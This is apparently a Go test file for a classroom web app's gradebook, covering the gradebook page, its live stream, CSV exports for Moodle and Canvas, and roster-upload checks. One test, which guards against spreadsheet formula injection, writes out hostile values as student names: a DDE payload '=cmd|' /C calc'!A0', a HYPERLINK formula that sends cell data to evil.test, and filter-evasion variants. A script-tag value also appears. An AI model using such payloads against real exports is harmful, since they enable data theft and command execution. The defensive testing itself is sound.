package web

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"io"
	"mime"
	"mime/multipart"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"wirewalk/app/internal/class"
)

// graded is a class of three, two of whom have answered something.
func graded(t *testing.T) (s *site, teacher *browser, code string) {
	t.Helper()
	s = teachSite(t, nil)
	teacher = s.teacher()
	code = teacher.makes("Networks", url.Values{"asks": {"email"}})
	join := func(name, mail string) *browser {
		b := s.browser()
		b.post("/join/"+code, url.Values{"name": {name}, "identifier": {mail}}).must(t, http.StatusOK)
		return b
	}
	ada, bob := join("Ada Lovelace", "ada@example.org"), join("Bob, the “Builder”", "bob@example.org")
	join("Carol", "carol@example.org")
	wrong, key := wrongOption(t, s.web.course.Lesson("frames"), "frames-quiz-8")
	ada.answers("frames", "frames-quiz-8", "1", key).must(t, http.StatusOK)
	ada.answers("websocket-protocol", "P003-quiz-1", "2", s.rightAnswer(s.web.course.Lesson("websocket-protocol"), s.web.course.Lesson("websocket-protocol").Graded()[0])...).must(t, http.StatusOK)
	bob.answers("frames", "frames-quiz-8", "1", wrong).must(t, http.StatusOK)
	bob.answers("frames", "frames-quiz-8", "2", key).must(t, http.StatusOK)
	return s, teacher, code
}

// table reads a gradebook's CSV as a spreadsheet would.
func (b *browser) table(code, query string) (lines [][]string, got answered) {
	b.t.Helper()
	got = b.get(cockpitPath(code)+"/gradebook.csv"+query).must(b.t, http.StatusOK)
	text, marked := strings.CutPrefix(got.body, "\ufeff")
	if !marked || strings.Contains(strings.ReplaceAll(text, "\r\n", ""), "\n") {
		b.t.Errorf("%s has no byte order mark, or lines that end otherwise", query)
	}
	in := csv.NewReader(strings.NewReader(text))
	lines, err := in.ReadAll() // every line has as many cells as the first
	if err != nil {
		b.t.Fatalf("%s: %v", query, err)
	}
	return lines, got
}

// cell is what a line has in a column.
func cell(t *testing.T, lines [][]string, who, column string) string {
	t.Helper()
	at := slices.Index(lines[0], column)
	for _, line := range lines[1:] {
		if at >= 0 && slices.Contains(line, who) {
			return line[at]
		}
	}
	t.Fatalf("there is no line of %s, or no column %q among %q", who, column, lines[0])
	return ""
}

func TestTheGradebookAsAPage(t *testing.T) {
	t.Parallel()
	s, teacher, code := graded(t)
	at := cockpitPath(code) + "/gradebook"
	live := teacher.tape(cockpitPath(code) + "/stream?" + url.Values{"gradebook": {""}, "lesson": {""}, "points": {"first"}}.Encode())
	live.region("grades", "Ada Lovelace")
	for query, c := range map[string]struct{ has, not []string }{
		"":                                 {[]string{"2 of 18", "0 of 18", "right at the first try", "right at try 2", "E-mail address", "ada@example.org", "P003-quiz-1"}, nil},
		"?points=best":                     {[]string{"2 of 18", "1 of 18", "✓2"}, nil},
		"?lesson=websocket-protocol":       {[]string{"1 of 9", "0 of 9", "P003-quiz-1"}, []string{"frames-quiz-8", "of 18"}},
		"?lesson=frames&points=best":       {[]string{"1 of 9", "✓2", "frames-quiz-8"}, []string{"P003-quiz-1"}},
		"?lesson=no-lesson&points=nothing": {[]string{"2 of 18"}, nil},
		"?lesson=sse-stream":               {[]string{"2 of 18"}, nil}, // none of the class's
	} {
		page := teacher.get(at+query).must(t, http.StatusOK).body
		for _, text := range c.has {
			if !strings.Contains(page, text) {
				t.Errorf("%q does not have %q", query, text)
			}
		}
		_, page, _ = strings.Cut(page, `data-region="grades"`)
		for _, text := range c.not {
			if strings.Contains(page, text) {
				t.Errorf("%q has %q", query, text)
			}
		}
	}
	// It goes on while it is looked at, and says what the page would.
	carol := s.browser()
	carol.post("/class/move", url.Values{"code": {code}, "personal": {s.personNamed(code, "Carol").MoveCode}}).must(t, http.StatusOK)
	wrong, _ := wrongOption(t, s.web.course.Lesson("frames"), "frames-quiz-8")
	carol.answers("frames", "frames-quiz-8", "1", wrong).must(t, http.StatusOK)
	live.region("grades", "3 answered · difficulty: 33 % right at first")
	regions, _ := live.shown()
	if page := teacher.get(at).body; !strings.Contains(page, regions["grades"]) {
		t.Error("what the stream shows is not what the page does")
	}
	teacher.leads(code, "/end").must(t, http.StatusNoContent)
	if page := teacher.get(at).must(t, http.StatusOK).body; !strings.Contains(page, "2 of 18") {
		t.Error("with the class its gradebook has ended")
	}
}

// personNamed is somebody in a class.
func (s *site) personNamed(code, name string) class.Person {
	s.t.Helper()
	people, err := s.web.store.People(s.t.Context(), code)
	if err != nil {
		s.t.Fatal(err)
	}
	for _, p := range people {
		if p.Name == name {
			return p
		}
	}
	s.t.Fatalf("nobody is called %s", name)
	return class.Person{}
}

// A stream of a gradebook takes whatever stands in its address.
func TestAGradebooksStreamTakesAnyLesson(t *testing.T) {
	t.Parallel()
	_, teacher, code := graded(t)
	for _, lesson := range []string{"frames", "no-lesson", "sse-stream", "\x00", strings.Repeat("x", 2000)} {
		tp := teacher.tape(cockpitPath(code) + "/stream?" + url.Values{"gradebook": {""}, "lesson": {lesson}, "points": {lesson}}.Encode())
		tp.region("grades", "Ada Lovelace")
		tp.stop()
	}
}

// Each format reads back, while the class goes on.
func TestTheGradebookAsCSV(t *testing.T) {
	t.Parallel()
	s, teacher, code := graded(t)
	lines, got := teacher.table(code, "")
	kind, params, err := mime.ParseMediaType(got.Header.Get("Content-Disposition"))
	if err != nil || kind != "attachment" || params["filename"] != "wirewalk-"+code+"-table.csv" || got.Header.Get("Content-Type") != "text/csv; charset=utf-8" || got.Header.Get("Cache-Control") != "no-store" {
		t.Errorf("it comes as %v, %v", got.Header, err)
	}
	if lines[0][0] != "Email address" || lines[0][1] != "Name" || len(lines) != 4 {
		t.Errorf("it begins with %q and has %d lines", lines[0], len(lines))
	}
	for _, c := range []struct{ who, column, want string }{
		{"ada@example.org", "frames/frames-quiz-8 first", "1"}, {"ada@example.org", "frames/frames-quiz-8 tries", "1"}, {"ada@example.org", "All first", "2"},
		{"bob@example.org", "frames/frames-quiz-8 first", "0"}, {"bob@example.org", "frames/frames-quiz-8 best", "1"}, {"bob@example.org", "frames/frames-quiz-8 tries", "2"},
		{"carol@example.org", "frames/frames-quiz-8 first", ""}, {"carol@example.org", "frames/frames-quiz-8 tries", "0"}, {"carol@example.org", "All best", "0"},
		{"bob@example.org", "Name", "Bob, the “Builder”"}, {"bob@example.org", "All of", "18"}, {"bob@example.org", "frames best", "1"},
	} {
		if got := cell(t, lines, c.who, c.column); got != c.want {
			t.Errorf("%s of %s is %q, want %q", c.column, c.who, got, c.want)
		}
	}
	if at, err := time.Parse(time.RFC3339, cell(t, lines, "ada@example.org", "frames/frames-quiz-8 time")); err != nil || time.Since(at).Abs() > time.Hour {
		t.Errorf("it was answered at %v, %v", at, err)
	}

	moodle, got := teacher.table(code, "?format=moodle&points=best")
	frames := "Wirewalk: " + s.web.course.Lesson("frames").Title
	if moodle[0][0] != "Email address" || cell(t, moodle, "bob@example.org", frames+" (of 9)") != "1" || cell(t, moodle, "carol@example.org", frames+" (of 9)") != "" {
		t.Errorf("for Moodle it is %q", moodle)
	}
	if _, params, _ := mime.ParseMediaType(got.Header.Get("Content-Disposition")); params["filename"] != "wirewalk-"+code+"-moodle.csv" {
		t.Errorf("its name is %q", params["filename"])
	}
	if first, _ := teacher.table(code, "?format=moodle&points=first"); cell(t, first, "bob@example.org", frames+" (of 9)") != "0" {
		t.Errorf("of first tries it is %q", first)
	}

	canvas, _ := teacher.table(code, "?format=canvas&points=best")
	if strings.Join(canvas[0][:5], ",") != "Student,ID,SIS User ID,SIS Login ID,Section" || strings.TrimSpace(canvas[1][0]) != "Points Possible" || cell(t, canvas, "bob@example.org", frames) != "1" {
		t.Errorf("for Canvas it is %q", canvas)
	}
	if most, err := strconv.Atoi(canvas[1][slices.Index(canvas[0], frames)]); err != nil || most != 9 {
		t.Errorf("the points possible are %d, %v", most, err)
	}

	one, _ := teacher.table(code, "?lesson=frames")
	if strings.Contains(strings.Join(one[0], " "), "websocket-protocol") || cell(t, one, "ada@example.org", "All of") != "9" {
		t.Errorf("of one lesson it is %q", one[0])
	}
	refusedCSV := func(query string, status int, says string) {
		t.Helper()
		if got := teacher.get(cockpitPath(code) + "/gradebook.csv" + query); got.StatusCode != status || !strings.Contains(got.body, says) || got.Header.Get("Content-Disposition") != "" {
			t.Errorf("%s: %s %.200s", query, got.Status, got.body)
		}
	}
	refusedCSV("?format=xlsx", http.StatusBadRequest, "table, moodle or canvas")
	refusedCSV("?points=worst", http.StatusBadRequest, "first or best")
	refusedCSV("?lesson=sse-stream", http.StatusConflict, "does not have that lesson")
	refusedCSV("?lesson=no-lesson", http.StatusConflict, "does not have that lesson")
	// The page leads to each of them.
	_, links := idsAndLinks(t, teacher.get(cockpitPath(code)+"/gradebook?lesson=frames&points=best").body)
	exports := 0
	for _, link := range links {
		if strings.Contains(link, "gradebook.csv") {
			exports++
			if got := teacher.get(link).must(t, http.StatusOK); !strings.HasPrefix(got.body, "\ufeff") || !strings.Contains(link, "points=best") || !strings.Contains(link, "lesson=frames") {
				t.Errorf("%s: %.100s", link, got.body)
			}
		}
	}
	if exports != 3 {
		t.Errorf("it leads to %d exports", exports)
	}
}

// What students type calls nothing in the spreadsheet of who teaches them.
func TestNamesAreNoFormulas(t *testing.T) {
	t.Parallel()
	s := teachSite(t, nil)
	teacher := s.teacher()
	for _, asks := range []string{"", "email", "number"} {
		code := teacher.makes("=cmd|' /C calc'!A0", url.Values{"asks": {asks}})
		names := []string{
			`=HYPERLINK("http://evil.test/?"&A1,"x")`, "+1+1 a", "-2+3 b", "@SUM(1+1)*cmd", "\t=1+1 c", "\r\n=1+1 d", `"=1+1 e`, "a,=1+1", "b;=1+1", "c|=1+1", "＝1+1 f", " =1+1 g", "'=1+1 h", "\u200d=1+1 i",
			"x\r\n=1+1,evil",
		}
		for i, name := range names {
			identifier := map[string]string{"email": fmt.Sprintf("+cmd%d@example.org", i), "number": fmt.Sprintf("%d-1", i)}[asks]
			b := s.browser()
			b.post("/join/"+code, url.Values{"name": {name}, "identifier": {identifier}}).must(t, http.StatusOK)
		}
		for _, format := range []string{"table", "moodle", "canvas"} {
			lines, got := teacher.table(code, "?format="+format)
			if strings.Contains(got.Header.Get("Content-Disposition"), "cmd") {
				t.Errorf("the file is called %s", got.Header.Get("Content-Disposition"))
			}
			seen := 0
			for _, line := range lines {
				for _, text := range line {
					seen += strings.Count(text, "1+1")
					for part := range strings.FieldsFuncSeq(text, func(r rune) bool { return strings.ContainsRune(",;|\t", r) }) {
						part = strings.TrimLeft(part, " \"\u200d\u200c\u00a0")
						if part != "" && strings.ContainsAny(part[:1], "=@\t\r") || strings.HasPrefix(part, "＝") {
							t.Errorf("%s, %s: a cell begins a formula: %q", asks, format, text)
						}
						if part != "" && strings.ContainsAny(part[:1], "+-") && !strings.HasSuffix(part, "@example.org") {
							t.Errorf("%s, %s: a cell begins a formula: %q", asks, format, text)
						}
					}
				}
			}
			if seen < 10 {
				t.Errorf("%s, %s: the names are not there", asks, format)
			}
		}
	}
}

// uploads sends a file as the page's form does.
func (b *browser) uploads(code, field, name string, data []byte, chunked bool) answered {
	b.t.Helper()
	var body bytes.Buffer
	form := multipart.NewWriter(&body)
	part, err := form.CreateFormFile(field, name)
	if err != nil {
		b.t.Fatal(err)
	}
	if _, err := part.Write(data); err != nil {
		b.t.Fatal(err)
	}
	if err := form.Close(); err != nil {
		b.t.Fatal(err)
	}
	var from io.Reader = &body
	if chunked {
		from = struct{ io.Reader }{&body} // of unknown length
	}
	r, err := http.NewRequest(http.MethodPost, b.site.URL+cockpitPath(code)+"/roster", from)
	if err != nil {
		b.t.Fatal(err)
	}
	r.Header.Set("Content-Type", form.FormDataContentType())
	r.Header.Set("Accept", "text/html")
	resp, err := b.http.Do(r)
	if err != nil {
		b.t.Fatal(err)
	}
	defer resp.Body.Close()
	read, err := io.ReadAll(resp.Body)
	if err != nil {
		b.t.Fatal(err)
	}
	return answered{resp, string(read)}
}

// A roster tells before an import what would become of it, and is kept nowhere.
func TestComparingWithARoster(t *testing.T) {
	t.Parallel()
	s, teacher, code := graded(t)
	before := s.everything(code)
	roster := "Full name,Email address\r\nAda Lovelace,ADA@example.org\r\nZoe,zoe@example.org\r\nBob,bob@example.org\r\nBob again,bob@example.org\r\nOdd,no address\r\n"
	page := teacher.uploads(code, "file", "roster.csv", []byte(roster), false).must(t, http.StatusOK).says()
	for _, says := range []string{
		"Known by “Email address”: 2 people.", "carol@example.org", "In the class and not on the roster", "line 3: zoe@example.org, Zoe", "On the roster, and not in the class",
		"bob@example.org, in lines 4 and 5 of the roster", "line 6: no address", "Ada Lovelace",
	} {
		if !strings.Contains(page, says) {
			t.Errorf("it does not say %q", says)
		}
	}
	if strings.Contains(page, "An import will go well.") {
		t.Error("it says that all is well")
	}
	good := "\ufeffemail;first name;last name\nada@example.org;Ada;L\nbob@example.org;Bob;B\ncarol@example.org;Carol;C\n"
	if page := teacher.uploads(code, "file", "good.csv", []byte(good), true).must(t, http.StatusOK).says(); !strings.Contains(page, "Known by “email”: 3 people.") || !strings.Contains(page, "An import will go well.") {
		t.Error("a roster that has everyone is not good")
	}
	for what, c := range map[string]struct {
		field string
		data  string
		says  string
	}{
		"no file":          {"other", good, "Choose a file first."},
		"an empty file":    {"file", "", "The file is empty."},
		"a spreadsheet":    {"file", "PK\x03\x04 …", "The file is a spreadsheet, and no CSV."},
		"UTF-16":           {"file", "\xff\xfee\x00m\x00", "UTF-16"},
		"no such column":   {"file", "Name,Room\nAda,7\n", "No column is called"},
		"a broken line":    {"file", "email\n\"ada\"x@example.org\n", "Line 2: A quotation mark stands where none may be."},
		"markup":           {"file", "<script>alert(1)</script>,b\nx,y\n", "No column is called"},
		"nobody below":     {"file", "email\n", "headings and nobody below them"},
		"more than 4 MiB":  {"file", "email\n" + strings.Repeat("x", class.MaxRosterBytes), "larger than 4 MB"},
		"too many lines":   {"file", "email\n" + strings.Repeat("a@b.cd\n", class.MaxRosterLines+1), "more than 10000 lines"},
		"a list of nobody": {"file", "email\nx\ny\n", "no e-mail address in any line"},
	} {
		got := teacher.uploads(code, c.field, "r.csv", []byte(c.data), false)
		if got.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(got.body, c.says) || strings.Contains(got.body, "<script>alert") {
			i := strings.Index(got.body, `id="file-refusal"`)
			t.Errorf("%s: %s %.300s", what, got.Status, got.body[max(0, i):])
		}
	}
	huge := []byte("email\n" + strings.Repeat("x", rosterLimit))
	for _, chunked := range []bool{false, true} {
		if got := teacher.uploads(code, "file", "huge.csv", huge, chunked); got.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(got.body, "too much") {
			t.Errorf("far too much (chunked: %v): %s %.200s", chunked, got.Status, got.body)
		}
	}
	// Nothing else takes as much.
	if got := teacher.post(cockpitPath(code)+"/ask", url.Values{"question": {strings.Repeat("x", bodyLimit)}}); got.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("a long question: %s", got.Status)
	}
	if now := s.everything(code); now != before {
		t.Error("comparing has changed the class")
	}

	none := teacher.makes("Nobody is asked", nil)
	if got := teacher.uploads(none, "file", "r.csv", []byte(good), false); got.StatusCode != http.StatusUnprocessableEntity {
		t.Errorf("a class that asks for nothing: %s", got.Status)
	}
	if page := teacher.get(cockpitPath(none) + "/gradebook").body; strings.Contains(page, `type="file"`) || !strings.Contains(page, "match the names by hand") {
		t.Error("a class that asks for nothing has a roster to compare with")
	}
	// A number that a spreadsheet has shortened is found.
	numbers := teacher.makes("Numbers", url.Values{"asks": {"number"}})
	b := s.browser()
	b.post("/join/"+numbers, url.Values{"name": {"Ada"}, "identifier": {"004711"}}).must(t, http.StatusOK)
	if page := teacher.uploads(numbers, "file", "r.csv", []byte("ID number,Name\n4711,Ada\n"), false).must(t, http.StatusOK).says(); !strings.Contains(page, "The roster has 4711") {
		t.Error("a number without its zeros is not found")
	}
}
